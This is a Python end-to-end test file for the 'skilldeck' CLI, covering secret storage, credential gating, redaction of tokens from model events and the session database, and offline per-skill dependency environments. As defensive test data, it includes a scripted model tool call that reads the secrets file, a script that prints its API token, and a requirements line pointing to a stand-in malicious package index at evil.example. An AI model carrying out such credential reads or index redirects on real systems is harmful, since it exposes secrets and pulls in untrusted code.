"""End to end through the real CLI: declared credentials (``skilldeck secrets``, gating,
redaction in the event stream and the session store) and per-skill environments
(``skilldeck skills deps``)."""

from __future__ import annotations

import importlib.util
import json
import sqlite3
import textwrap
from pathlib import Path

from cli_helpers import REPO, json_events, skilldeck, tool_call, write_script

_SPEC = importlib.util.spec_from_file_location(
    "skilldeck_test_wheels", REPO / "tests" / "unit" / "skills" / "execution" / "wheels.py"
)
assert _SPEC is not None and _SPEC.loader is not None
wheels = importlib.util.module_from_spec(_SPEC)
_SPEC.loader.exec_module(wheels)

TOKEN = "ghp_e2e_secret_value_0123456789"
PRINT_KEY = """
import json, os, sys
print("stderr saw", os.environ.get("GITHUB_TOKEN"), file=sys.stderr)
print(json.dumps({"key": os.environ.get("GITHUB_TOKEN")}))
sys.exit(int(json.loads(sys.argv[1]).get("exit", 0)))
"""


def gh_skill(work: Path) -> Path:
    folder = work / ".skilldeck" / "skills" / "gh"
    (folder / "scripts").mkdir(parents=True)
    (folder / "scripts" / "run.py").write_text(textwrap.dedent(PRINT_KEY), encoding="utf-8")
    (folder / "SKILL.md").write_text(
        "---\nname: gh\ndescription: Talks to GitHub with the user's token.\n"
        "entrypoint: scripts/run.py\ncredentials:\n  - name: GITHUB_TOKEN\n"
        "    description: a token with repo scope\n---\nRun it with {}.\n",
        encoding="utf-8",
    )
    config = work / ".skilldeck" / "config.toml"
    config.write_text('[permissions]\nallow = ["Bash", "Skill", "Read"]\n', encoding="utf-8")
    return folder


def test_secrets_set_list_rm_and_the_gate(tmp_path: Path, skilldeck_home: Path) -> None:
    gh_skill(tmp_path)
    listed = skilldeck("skills", "list", "--all", "--json", cwd=tmp_path)
    (row,) = [s for s in json.loads(listed.stdout) if s["name"] == "gh"]
    assert row["status"] == "unavailable"
    assert "skilldeck secrets set GITHUB_TOKEN" in row["reason"]

    # the value comes from stdin, never argv; list shows names only
    done = skilldeck("secrets", "set", "GITHUB_TOKEN", "--skill", "gh", cwd=tmp_path, input=TOKEN)
    assert done.returncode == 0, done.stderr
    shown = skilldeck("secrets", "list", "--json", cwd=tmp_path)
    assert json.loads(shown.stdout)["secrets"] == [
        {"name": "GITHUB_TOKEN", "skill": "gh", "backend": "file"}
    ]
    assert TOKEN not in shown.stdout
    assert (skilldeck_home / "secrets" / "values.json").stat().st_mode & 0o077 == 0
    listed = skilldeck("skills", "list", "--all", "--json", cwd=tmp_path)
    (row,) = [s for s in json.loads(listed.stdout) if s["name"] == "gh"]
    assert row["status"] == "active", row

    bad = skilldeck("secrets", "set", "no good", cwd=tmp_path, input=TOKEN)
    assert (
        bad.returncode != 0 and bad.stderr.startswith("error: ") and "Traceback" not in bad.stderr
    )
    assert skilldeck("secrets", "rm", "GITHUB_TOKEN", "--skill", "gh", cwd=tmp_path).returncode == 0
    assert skilldeck("secrets", "rm", "GITHUB_TOKEN", "--skill", "gh", cwd=tmp_path).returncode == 1


def test_a_script_that_prints_its_key_never_shows_it_to_model_events_or_store(
    tmp_path: Path, skilldeck_home: Path
) -> None:
    gh_skill(tmp_path)
    with (tmp_path / ".skilldeck" / "config.toml").open("a", encoding="utf-8") as fh:
        fh.write('[sandbox]\nmode = "off"\n')
    assert skilldeck("secrets", "set", "GITHUB_TOKEN", cwd=tmp_path, input=TOKEN).returncode == 0
    values = skilldeck_home / "secrets" / "values.json"
    script = write_script(
        tmp_path / "script.jsonl",
        [
            {"tool_calls": [tool_call("r1", "Bash", command=f"cat {values}")]},
            {"tool_calls": [tool_call("s1", "Skill", skill="gh", args={})]},
            {"tool_calls": [tool_call("s2", "Skill", skill="gh", args={"exit": 4})]},
            {"tool_calls": [tool_call("b1", "Bash", command='echo "model sees:$GITHUB_TOKEN"')]},
            {"text": "done"},
        ],
    )
    proc = skilldeck("run", "use gh", "--model", f"scripted:{script}", "--json", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert TOKEN not in proc.stdout + proc.stderr
    results = {e["id"]: e for e in json_events(proc.stdout) if e["type"] == "tool_result"}
    assert '"key": "[secret GITHUB_TOKEN]"' in results["s1"]["content"]  # the tool result
    assert results["s2"]["is_error"] and "[secret GITHUB_TOKEN]" in results["s2"]["content"]
    assert results["b1"]["content"] == "model sees:"  # the model's own Bash gets nothing
    # a tool that reads the file store itself, before any skill ran (no sandbox
    # here: it would hide the store), shows the name, not the value
    assert "[secret GITHUB_TOKEN]" in results["r1"]["content"], results["r1"]

    # the session store: every table, and the raw database files
    for path in skilldeck_home.glob("sessions.db*"):
        assert TOKEN.encode() not in path.read_bytes(), path
    with sqlite3.connect(skilldeck_home / "sessions.db") as db:
        tables = [r[0] for r in db.execute("select name from sqlite_master where type='table'")]
        for table in tables:
            for row in db.execute(f"select * from {table}"):  # names from sqlite itself
                assert TOKEN not in repr(row), table
        dumped = "\n".join(db.iterdump())
    assert "[secret GITHUB_TOKEN]" in dumped


def dep_skill(work: Path, name: str, requirements: str) -> Path:
    folder = work / ".skilldeck" / "skills" / name
    (folder / "scripts").mkdir(parents=True)
    (folder / "scripts" / "run.py").write_text(
        "import json, tinydep\nprint(json.dumps({'answer': tinydep.ANSWER}))\n", encoding="utf-8"
    )
    (folder / "requirements.txt").write_text(requirements, encoding="utf-8")
    (folder / "SKILL.md").write_text(
        f"---\nname: {name}\ndescription: Answers with tinydep.\nentrypoint: scripts/run.py\n"
        "---\nRun it.\n",
        encoding="utf-8",
    )
    return folder


def test_skills_deps_builds_offline_and_the_script_runs_with_it(
    tmp_path: Path, skilldeck_home: Path
) -> None:
    found = wheels.write_wheel(tmp_path / "wheels", "tinydep").parent
    dep_skill(tmp_path, "answer", "tinydep==1.0\n")
    dep_skill(tmp_path, "answer-too", "tinydep==1.0\n")
    built = skilldeck(
        "skills", "deps", "answer", "--offline", "--find-links", str(found), cwd=tmp_path
    )
    assert built.returncode == 0, built.stderr
    assert "ready" in built.stdout and "uv pip install" in built.stderr  # progress on stderr
    shared = skilldeck("skills", "deps", "answer-too", "--offline", "--json", cwd=tmp_path)
    data = json.loads(shared.stdout)
    assert data["status"] == "ready" and data["shared_with"] == ["answer"]
    ran = skilldeck("skills", "run", "answer", "--json", cwd=tmp_path)
    assert ran.returncode == 0, ran.stderr
    assert json.loads(ran.stdout)["result"] == {"answer": 42}

    # an unresolvable requirement: one error line, and the skill is unavailable
    dep_skill(tmp_path, "broken", "tinydep==7.0\n")
    failed = skilldeck(
        "skills", "deps", "broken", "--offline", "--find-links", str(found), cwd=tmp_path
    )
    assert failed.returncode == 1 and "Traceback" not in failed.stderr
    (line,) = [x for x in failed.stderr.splitlines() if x.startswith("error:")]
    assert "tinydep" in line and "--rebuild" in line
    listed = skilldeck("skills", "list", "--all", "--json", cwd=tmp_path)
    (row,) = [s for s in json.loads(listed.stdout) if s["name"] == "broken"]
    assert row["status"] == "unavailable" and "failed to build" in row["reason"]
    refused = skilldeck("skills", "run", "broken", cwd=tmp_path)
    assert refused.returncode != 0 and "Traceback" not in refused.stderr


def test_skills_install_builds_the_environment_before_first_use(
    tmp_path: Path, skilldeck_home: Path
) -> None:
    found = wheels.write_wheel(tmp_path / "wheels", "tinydep").parent
    source = tmp_path / "src"
    dep_skill(source, "installed-dep", "tinydep==1.0\n")
    work = tmp_path / "work"
    work.mkdir()
    # uv reads its own settings from the environment: offline, from the wheel folder
    offline = {"UV_OFFLINE": "1", "UV_NO_INDEX": "1", "UV_FIND_LINKS": str(found)}
    folder = source / ".skilldeck" / "skills" / "installed-dep"
    done = skilldeck("skills", "install", str(folder), cwd=work, env=offline)
    assert done.returncode == 0, done.stderr
    assert "built the Python environment of 'installed-dep'" in done.stdout + done.stderr
    assert len(list((skilldeck_home / "envs").iterdir())) == 1
    shown = skilldeck("skills", "deps", "installed-dep", "--json", cwd=work)
    assert json.loads(shown.stdout)["status"] == "ready"
    ran = skilldeck("skills", "run", "installed-dep", "--json", cwd=work)
    assert ran.returncode == 0, ran.stderr
    assert json.loads(ran.stdout)["result"] == {"answer": 42}


def test_secrets_set_refuses_several_lines_and_warns_of_an_unknown_skill(
    tmp_path: Path, skilldeck_home: Path
) -> None:
    gh_skill(tmp_path)
    two = skilldeck("secrets", "set", "GITHUB_TOKEN", cwd=tmp_path, input="abcdefgh\nijklmnop\n")
    assert two.returncode == 1 and "2 lines" in two.stderr and "one line" in two.stderr
    assert "Traceback" not in two.stderr
    listed = skilldeck("secrets", "list", "--json", cwd=tmp_path)
    assert json.loads(listed.stdout)["secrets"] == []  # nothing half-stored
    blank = skilldeck("secrets", "set", "OTHER_KEY", cwd=tmp_path, input="abcdefgh\r\n\n")
    assert blank.returncode == 0, blank.stderr  # trailing line breaks are not a 2nd line
    unknown = skilldeck(
        "secrets", "set", "GITHUB_TOKEN", "--skill", "nosuch-skill", cwd=tmp_path, input=TOKEN
    )
    assert unknown.returncode == 0
    assert "no skill named 'nosuch-skill' is known here" in unknown.stderr
    other = skilldeck("secrets", "set", "OTHER_KEY", "--skill", "gh", cwd=tmp_path, input=TOKEN)
    assert "does not declare the credential OTHER_KEY" in other.stderr
    known = skilldeck("secrets", "set", "GITHUB_TOKEN", "--skill", "gh", cwd=tmp_path, input=TOKEN)
    assert known.returncode == 0 and "warning" not in known.stderr


def test_a_refused_requirements_option_says_edit_the_file_and_validate_warns(
    tmp_path: Path, skilldeck_home: Path
) -> None:
    folder = dep_skill(tmp_path, "optioned", "--index-url http://evil.example/simple\ntinydep\n")
    done = skilldeck("skills", "deps", "optioned", "--offline", cwd=tmp_path)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    (line,) = [x for x in done.stderr.splitlines() if x.startswith("error:")]
    assert "line 1" in line and "--index-url" in line and "Edit " in line
    assert "requirements.txt" in line and "--rebuild" not in line
    checked = skilldeck("skills", "validate", str(folder), cwd=tmp_path)
    assert checked.returncode == 0, checked.stdout
    assert "requirements.txt:1: warning SD181" in checked.stdout
    assert checked.stdout.splitlines()[-1].endswith("1 warning(s)")
